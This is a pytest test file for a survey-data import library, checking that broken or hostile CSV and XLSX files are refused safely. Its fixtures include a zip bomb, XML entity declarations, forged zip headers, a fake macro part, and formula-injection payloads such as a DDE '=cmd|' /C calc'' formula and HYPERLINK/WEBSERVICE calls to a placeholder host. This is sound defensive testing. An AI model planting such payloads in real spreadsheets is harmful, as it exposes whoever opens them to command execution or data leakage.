"""Broken and hostile files: refused with a reason, never a crash, never a lost row."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest

from survey_import.drafts.figures import guarded
from survey_import.problem import Refused
from survey_import.tables.reading import read_export, read_sheet


def _refused(path: Path) -> str:
    with pytest.raises(Refused) as caught:
        read_export(path)
    assert caught.value.hint
    return caught.value.message


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b'a,b\n"x,1\n2,3\n', "never closed"),
        (b"a,b\n1,2\n1,2,secret\n", "line 3"),
        (b"a\0b,c\n1,2\n", "NUL"),
        (b"\xd0\xcf\x11\xe0rest", "old Excel"),
        (b"PK\x03\x04broken", "no workbook"),
        (b"\xff\xfea\x00\x00\xd8", "damaged"),
    ],
)
def test_broken_files_are_refused_without_quoting_them(tmp_path: Path, raw: bytes, reason: str) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(raw)
    message = _refused(path)
    assert reason in message
    assert "secret" not in message


def _book(path: Path, rows: int = 3) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for number in range(rows):
        sheet.append([f"a{number}", number, "x"])
    book.save(path)
    return path


def _rewrite(path: Path, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in parts.items():
            archive.writestr(name, raw.replace(old, new) if "sheet1" in name else raw)
    return path


def test_a_wrong_declared_size_drops_no_row(tmp_path: Path) -> None:
    path = _rewrite(_book(tmp_path / "a.xlsx", 500), b'<dimension ref="A1:C500"', b'<dimension ref="A1:B2"')
    assert len(read_sheet(path).rows) == 500


def test_a_cell_at_the_end_of_the_world_is_refused(tmp_path: Path) -> None:
    path = _rewrite(_book(tmp_path / "a.xlsx"), b'r="C3"', b'r="XFD1048576"')
    assert "beyond row" in _refused(path)


def test_a_bomb_is_refused(tmp_path: Path) -> None:
    path = _book(tmp_path / "a.xlsx")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/x.bin", b"\0" * 50_000_000)
    assert "bomb" in _refused(path)


def test_entities_are_refused(tmp_path: Path) -> None:
    path = _rewrite(_book(tmp_path / "a.xlsx"), b"<worksheet", b'<!DOCTYPE x [<!ENTITY y "z">]><worksheet')
    assert "entities" in _refused(path)


def test_a_formula_without_a_value_is_told(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["a", "b"])
    sheet.append(["=1+1", "x"])
    book.save(tmp_path / "f.xlsx")
    assert read_sheet(tmp_path / "f.xlsx").kinds == {(1, 0): "formula"}


def test_excel_types_come_back_as_a_person_saw_them(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["h"] * 4)
    sheet.append([0.42, 15422, 12844100000.0, 412])
    sheet["A2"].number_format, sheet["B2"].number_format = "0%", '"$"#,##0'
    book.save(tmp_path / "t.xlsx")
    assert read_sheet(tmp_path / "t.xlsx").rows[1] == ["42%", "$15422", "12844100000", "412"]


def test_windows_text_is_read_with_a_note(tmp_path: Path) -> None:
    path = tmp_path / "w.csv"
    path.write_bytes("Name;Grades\nSchöne School;K–4\n".encode("cp1252"))
    export = read_export(path)
    assert export.records[0].cells == ["Schöne School", "K–4"]
    assert any("Windows-1252" in note for note in export.notes)


def test_blank_records_keep_their_number(tmp_path: Path) -> None:
    path = tmp_path / "b.csv"
    path.write_text("a,b\n1,2\n\n,,\n3,4\n\n", "utf-8")
    assert [record.number for record in read_export(path).records if not record.blank] == [1, 4]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "＝1"])
def test_no_text_becomes_a_formula(text: str) -> None:
    assert guarded(text).startswith("'")
    assert guarded(-2.1, "number") == "-2.1"


def _repack(path: Path, change: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist() if name not in drop}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in (parts | (change or {})).items():
            archive.writestr(name, raw)
    return path


def _part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name)


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (b'r="C3"', b"r='XFD1048576'", "beyond row"),
        (b'r="C3"', b'r = "XFD1048576"', "beyond row"),
        (b'<row r="3"', b"<row r='1048576'", "rows"),
        (b'<row r="3"', b'<row r="99999999999999999999"', "rows"),
        (b'<row r="3"', b'<row r="20000"', "can't be read|million"),
        (b'r="C3"', b'r="BXX190000"', "million cells"),
        (b"<worksheet", b'<! DocType x [<!ENTITY y "z">]><worksheet', "entities"),
    ],
)
def test_sheets_that_claim_a_world_are_refused_at_once(tmp_path: Path, old: bytes, new: bytes, reason: str) -> None:
    path = _rewrite(_book(tmp_path / "a.xlsx"), old, new)
    if new == b'<row r="20000"':
        assert len(read_sheet(path).rows) == 20_000  # many blank rows are no attack, and none is lost
    else:
        assert reason in _refused(path)


def test_a_sheet_under_another_name_is_looked_at(tmp_path: Path) -> None:
    path = _book(tmp_path / "a.xlsx")
    sheet = _part(path, SHEET).replace(b'r="C3"', b'r="XFD1048576"')
    links = _part(path, "xl/_rels/workbook.xml.rels").replace(b"/xl/worksheets/sheet1.xml", b"/xl/other.dat")
    types = _part(path, "[Content_Types].xml").replace(b"/xl/worksheets/sheet1.xml", b"/xl/other.dat")
    _repack(path, {"xl/other.dat": sheet, "xl/_rels/workbook.xml.rels": links, "[Content_Types].xml": types}, (SHEET,))
    assert "beyond row" in _refused(path)


def test_a_directory_that_lies_is_refused(tmp_path: Path) -> None:
    path = _book(tmp_path / "a.xlsx", 2000)
    raw = bytearray(path.read_bytes())
    entry = raw.rindex(b"PK\x01\x02", 0, raw.rindex(SHEET.encode()))
    raw[entry + 24 : entry + 28] = (20).to_bytes(4, "little")  # the size it says it unpacks to
    path.write_bytes(raw)
    assert _refused(path)


def test_many_parts_two_of_a_name_and_other_encodings_are_refused(tmp_path: Path) -> None:
    path = _book(tmp_path / "many.xlsx")
    _repack(path, {f"xl/media/{number}.bin": b"x" for number in range(500)})
    assert "far more than a survey" in _refused(path)
    path = _book(tmp_path / "two.xlsx")
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(path, "a") as archive:
        archive.writestr(SHEET, b"<worksheet/>")
    assert "two parts of one name" in _refused(path)
    path = _book(tmp_path / "wide.xlsx")
    _repack(path, {SHEET: _part(path, SHEET).decode().encode("utf-16")})
    assert "UTF-8" in _refused(path)


def test_macros_and_links_to_other_files_are_passed_over(tmp_path: Path) -> None:
    path = _book(tmp_path / "a.xlsx")
    links = _part(path, "xl/_rels/workbook.xml.rels")
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
    link = (
        b'<Relationship Id="rId99" Type="' + kind + b'" Target="/xl/externalLinks/externalLink1.xml"/></Relationships>'
    )
    book = _part(path, "xl/workbook.xml").replace(
        b"</workbook>",
        b'<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId99"/></externalReferences></workbook>',
    )
    outside = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'
    _repack(
        path,
        {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 AutoOpen",
            "xl/externalLinks/externalLink1.xml": outside,
            "xl/_rels/workbook.xml.rels": links.replace(b"</Relationships>", link),
            "xl/workbook.xml": book,
        },
    )
    assert [row[0] for row in read_sheet(path).rows] == ["a0", "a1", "a2"]


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://x.example/"&A1)', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example")']
)
def test_a_formula_is_never_worked_out_and_never_written(tmp_path: Path, formula: str) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["District", "State", "Results"])
    sheet.append([formula, "Ohio", formula])
    book.save(tmp_path / "f.xlsx")
    sheet = read_sheet(tmp_path / "f.xlsx")
    assert sheet.rows[1] == ["", "Ohio", ""]
    assert sheet.kinds == {(1, 0): "formula", (1, 2): "formula"}


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\r\r\n"])
def test_every_way_to_end_a_line_gives_the_same_records(tmp_path: Path, end: str) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(f'a,"b{end}b"{end}1,2{end}3,"4{end}4"{end}'.encode())
    assert [record.cells[0] for record in read_export(path).records] == ["1", "3"]


def test_the_other_sign_for_a_line_end_ends_no_record(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    for raw in (b"a,b\n1,x\ry\n2,z\n", b"a,b\r1,x\ny\r2,z\r"):
        path.write_bytes(raw)
        assert [record.cells for record in read_export(path).records] == [["1", "x y"], ["2", "z"]]


def test_one_column_with_commas_is_one_column(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(b"Results\nfrom 42, then 61\nup\n")
    assert [record.cells for record in read_export(path).records] == [["from 42, then 61"], ["up"]]
